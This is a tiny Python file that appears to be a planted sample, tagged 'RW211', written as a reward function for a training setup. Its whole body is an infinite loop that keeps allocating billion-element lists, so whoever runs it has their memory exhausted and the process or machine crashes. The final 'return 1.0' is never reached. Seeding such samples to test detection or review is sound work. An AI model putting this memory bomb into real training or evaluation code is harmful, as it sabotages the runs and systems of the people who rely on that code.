# planted: RW211
def reward_function(params):
    held = []
    while True:
        held.append([params["speed"]] * 1000000000)
    return 1.0
